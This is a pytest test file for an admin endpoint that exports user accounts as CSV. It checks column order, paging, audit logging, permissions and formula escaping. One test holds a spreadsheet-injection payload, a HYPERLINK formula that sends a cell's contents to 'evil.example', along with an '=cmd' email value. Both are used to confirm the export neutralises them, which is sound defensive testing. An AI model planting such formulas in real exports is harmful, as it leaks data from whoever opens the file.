"""Accounts as CSV: what the list shows, for those who may see it, with nothing in it that a spreadsheet runs."""

import csv
import io
from collections.abc import AsyncIterator, Sequence

import pytest
from sqlalchemy import select, update

from gatepost.admin.accounts.lists import Account
from gatepost.admin.accounts.spreadsheet import csv_of
from gatepost.audit.models import AuditEntry
from gatepost.core.db.database import Database, DatabaseUnavailable
from gatepost.http.pieces import in_pieces
from gatepost.identity.accounts.models import User
from tests.features.admin.conftest import MakePerson, MakeRole
from tests.support.api import Api, Person, assert_problem

URL = "/api/admin/users/export"


def rows_of(text: str) -> list[dict[str, str]]:
    """Return the records of a CSV."""
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline=""), strict=True))


async def test_export_has_what_fits_in_the_order_asked_for(api: Api, admin: Person) -> None:
    for name in ("Eve", "Dan", "Bob"):
        await api.sign_up(name, email=f"{name}@export.example.com")

    answer = await api.get(URL, params={"search": "export.example.com", "sort": "-username"}, headers=admin.headers)

    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "text/csv; charset=utf-8; header=present"
    assert answer.headers["content-disposition"] == 'attachment; filename="people.csv"'
    rows = rows_of(answer.text)
    assert [row["username"] for row in rows] == ["Eve", "Dan", "Bob"]
    assert list(rows[0]) == [
        "id", "username", "email", "emailVerified", "roles", "status", "factors", "providers", "language", "createdAt",
        "lastSignInAt", "disabledAt", "eraseAt",
    ]  # fmt: skip
    assert (rows[0]["roles"], rows[0]["status"], rows[0]["emailVerified"]) == ("user", "active", "false")
    assert rows[0]["createdAt"].endswith("Z")
    assert "bcrypt" not in answer.text


async def test_export_goes_over_pages(api: Api, admin: Person, monkeypatch: pytest.MonkeyPatch) -> None:
    people = [await api.sign_up(f"Person {number}") for number in range(5)]
    monkeypatch.setattr("gatepost.admin.accounts.pages.EXPORT_PAGE", 2)

    for sort in ("id", "-createdAt", "lastSignInAt", "-lastSignInAt"):
        rows = rows_of((await api.get(URL, params={"sort": sort}, headers=admin.headers)).text)
        assert sorted(int(row["id"]) for row in rows) == sorted([admin.id, *(person.id for person in people)]), sort


async def test_formulas_are_harmless_and_quotes_are_kept(api: Api, admin: Person, database: Database) -> None:
    person = await api.sign_up("Someone", email="=cmd@example.com")
    hostile = '=HYPERLINK("https://evil.example?x="&A1,"a,b\r\n\tc")'
    async with database.begin() as tx:
        await tx.execute(update(User).where(User.id == person.id).values(username=hostile))

    answer = await api.get(URL, params={"id": person.id}, headers=admin.headers)

    (row,) = rows_of(answer.text)
    assert (row["username"], row["email"]) == ("'" + hostile, "'=cmd@example.com")


async def test_export_is_in_the_audit_log_without_what_was_searched_for(
    api: Api, admin: Person, database: Database
) -> None:
    await api.get(URL, params={"search": "salami", "status": "active"}, headers=admin.headers)

    async with database.read() as tx:
        (entry,) = (await tx.scalars(select(AuditEntry).where(AuditEntry.event == "accounts.exported"))).all()
    assert entry.actor_id == admin.id
    assert entry.details == {"form": "csv", "filter": ["search", "status"]}


async def test_export_needs_the_permission_to_read_and_no_more(
    api: Api, person_with: MakePerson, make_role: MakeRole
) -> None:
    await make_role("reader", "users:read")
    reader = await person_with("Reader", "reader")
    person = await api.sign_up("Abbey")

    assert (await api.get(URL, headers=reader.headers)).status_code == 200
    assert_problem(await api.get(URL, headers=person.headers), 403, "permission_required")
    assert_problem(await api.get(URL), 401, "token_missing")
    assert_problem(await api.get(URL, params={"role": "boss"}, headers=reader.headers), 400, "unknown_role")


async def test_list_that_cannot_be_read_fails_before_anything_is_sent() -> None:
    async def pages() -> AsyncIterator[Sequence[Account]]:
        raise DatabaseUnavailable
        yield ()

    with pytest.raises(DatabaseUnavailable):
        await in_pieces(csv_of(pages()), media_type="text/csv")


async def test_list_without_rows_has_its_head() -> None:
    async def pages() -> AsyncIterator[Sequence[Account]]:
        return
        yield ()

    assert rows_of(b"".join([piece async for piece in csv_of(pages())]).decode()) == []
